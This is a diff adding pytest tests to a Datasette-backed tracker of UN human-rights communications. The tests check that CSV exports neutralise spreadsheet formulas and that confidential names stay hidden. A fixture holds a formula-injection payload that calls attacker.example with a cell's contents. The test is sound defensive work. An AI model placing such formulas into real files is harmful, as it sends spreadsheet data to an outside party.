@@ -194,3 +194,98 @@ def test_without_datasette_says_how_to_install(browsed, monkeypatch):
     monkeypatch.setitem(sys.modules, "datasette.app", None)
     result = browsed("browse", code=1)
     assert result.stderr == "Error: Datasette is not installed: pip install 'commresp[browse]'\n"
+
+
+# --- what people download and what stays confidential -------------------------------------
+
+
+@pytest.fixture
+def hostile(browsed):
+    browsed(
+        "register",
+        "AL BEL 3/2025",
+        "--date",
+        "2025-07-30",
+        "--mandate",
+        "torture",
+        "--subject",
+        '=HYPERLINK("http://attacker.example/?"&A1,"Click");=1+1',
+    )
+    browsed("confidential", "AL BEL 1/2025", "--add", "Siobhán Ó Briain")
+    return browsed
+
+
+def test_datasette_csv_is_neutralised(hostile):
+    import csv
+    import io
+
+    ds = make_datasette(hostile.root)
+    for path in (
+        "/commresp/communications.csv?_sort=ref",
+        "/commresp/communications.csv?_sort=ref&_stream=1",
+        "/commresp/open_communications.csv",
+        "/commresp.csv?sql=select+ref,+subject+from+communications+order+by+ref",
+    ):
+        response = get(ds, path)
+        assert response.status_code == 200, (path, response.text)
+        text = response.content.decode("utf-8-sig")
+        rows = {r["ref"]: r for r in csv.DictReader(io.StringIO(text))}
+        subject = rows["AL BEL 3/2025"]["subject"]
+        assert subject == '\'=HYPERLINK("http://attacker.example/?"&A1,"Click");\'=1+1', path
+        assert rows["UA BEL 2/2025"]["subject"] == "Trafficking of Sri Lankan nationals"
+        assert all(line.startswith('"') for line in text.splitlines() if line)
+
+
+def test_confidential_terms_hidden_unless_asked(hostile):
+    ds = make_datasette(hostile.root)
+    tables = [t["name"] for t in get(ds, "/commresp.json").json()["tables"] if not t["hidden"]]
+    assert "confidential_terms" not in tables
+    assert get(ds, "/commresp/confidential_terms.json").status_code == 403
+    sql = get(ds, "/commresp.json?sql=select+term+from+confidential_terms")
+    assert sql.status_code == 400 and "confidential_terms.term is prohibited" in sql.text
+    joined = get(
+        ds,
+        "/commresp.json?_shape=array&sql=select+c.ref+from+communications+c"
+        "+join+confidential_terms+t+on+t.communication_id+=+c.id",
+    )
+    assert joined.status_code == 400
+    # the audit log names the terms in its details: blank without the flag
+    events = get(ds, "/commresp/events.json?_shape=array&action=confidential").json()
+    assert events and all(e["details"] is None for e in events)
+    assert "Siobhán" not in get(ds, "/commresp/events.csv?_stream=1").text
+    opened = make_datasette(hostile.root, include_confidential=True)
+    terms = get(opened, "/commresp/confidential_terms.json?_shape=array").json()
+    assert [t["term"] for t in terms] == ["Siobhán Ó Briain"]
+    events = get(opened, "/commresp/events.json?_shape=array&action=confidential").json()
+    assert "Siobhán" in events[0]["details"]
+
+
+def test_browse_command_takes_include_confidential(hostile, monkeypatch):
+    import uvicorn
+
+    served = {}
+    monkeypatch.setattr(uvicorn, "run", lambda app, **kwargs: served.update(app=app, **kwargs))
+    hostile("browse", "--include-confidential")
+    assert callable(served["app"])
+
+
+def test_home_is_the_status_dashboard_with_labelled_columns(hostile):
+    ds = make_datasette(hostile.root)
+    home = get(ds, "/")
+    assert home.status_code == 302 and home.headers["location"] == "/commresp/status"
+    rows = get(ds, "/commresp/status.json?_shape=array").json()
+    assert [(r["ref"], r["days_left"], r["late_agencies"]) for r in rows] == [
+        ("AL BEL 1/2025", -45, "federal-police"),  # overdue first
+        ("UA BEL 2/2025", 34, None),
+        ("AL BEL 3/2025", 44, None),
+    ]
+    meta = get(ds, "/-/metadata.json").json()["databases"]["commresp"]
+    assert meta["queries"]["status"]["title"] == "Status dashboard"
+    communications = meta["tables"]["communications"]
+    assert communications["label_column"] == "ref"
+    assert communications["columns"]["reply_due"].startswith("Reply date")
+    page = get(ds, "/commresp/communications")
+    assert "Reply date: the letter date plus the reply period" in page.text
+    # enquiries show the communication's reference, not its id
+    enquiries = get(ds, "/commresp/enquiries.json?_shape=array&_labels=on").json()
+    assert {e["communication_id"]["label"] for e in enquiries} >= {"AL BEL 1/2025"}
